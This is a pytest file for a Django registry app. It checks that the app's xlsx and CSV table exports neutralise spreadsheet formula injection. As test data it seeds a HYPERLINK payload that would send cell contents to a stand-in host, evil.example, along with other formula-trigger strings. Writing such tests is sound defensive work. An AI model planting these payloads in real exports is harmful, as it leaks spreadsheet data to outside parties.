"""Each table download, with data that exercises every column (formula-like text, None, dates,
Decimals, lazy labels): it answers 200, and no cell of it is a live formula."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from civicgrid.registry.models import Building, Household, Person

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def cells(response, fmt="xlsx") -> list[list]:
    data = response.getvalue()
    if fmt == "csv":
        return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    book = load_workbook(io.BytesIO(data))
    found = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c for c in found if c.data_type == "f"], "a live formula"
    return [[c.value for c in row] for row in book.worksheets[0].iter_rows()]


def flat(rows) -> list:
    return [v for row in rows for v in row]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize("kind", ["persons", "buildings", "households"])
def test_register_exports(gl_client, world, kind, fmt):
    Building.objects.filter(pk=world["b1"].pk).update(
        name=EVIL, address="@SUM(1)", floors=0, lon=None, lat=None
    )
    Household.objects.filter(pk=world["h1"].pk).update(number="-H1+1")
    Person.objects.filter(pk=world["p1"].pk).update(name="+张三", birth_date=None)
    for unmask in ("", "1"):
        response = gl_client.get(
            reverse("registry:export", args=[kind]), {"format": fmt, "unmask": unmask}
        )
        assert response.status_code == 200
        values = flat(cells(response, fmt))
        expected = {"persons": "+张三", "buildings": EVIL, "households": "-H1+1"}[kind]
        if fmt == "csv":
            assert "'" + expected in values and expected not in values
        else:
            assert expected in values


def test_import_templates(gl_client, world):
    for kind in ("persons", "buildings", "households"):
        response = gl_client.get(reverse("registry:import_template", args=[kind]))
        assert response.status_code == 200
        assert cells(response)[0][0]


def test_duty_list_export(client, loop):
    from civicgrid.accounts.models import User
    from civicgrid.duties.models import CommunityKind
    from civicgrid.duties.services import version_save

    version_save(
        kind=CommunityKind.objects.get(code="urban"),
        list_type="assisting",
        items=[
            {
                "code": "A-01",
                "title": EVIL,
                "basis": "-依据",
                "department": loop.department,
                "hours_per_month": Decimal("-0.00") + Decimal("4.50"),
                "funding_per_year": Decimal("3000.00"),
                "effective_from": dt.date(2026, 1, 1),
            }
        ],
        effective_from=dt.date(2026, 1, 1),
    )
    client.force_login(User.objects.create_superuser("root", password="pw-for-tests-123"))
    response = client.get(
        reverse("duties:export", args=["urban", "assisting"]), {"on": "2026-06-01"}
    )
    assert response.status_code == 200
    rows = cells(response)
    assert EVIL in rows[1] and 4.5 in rows[1] and dt.datetime(2026, 1, 1) in rows[1]
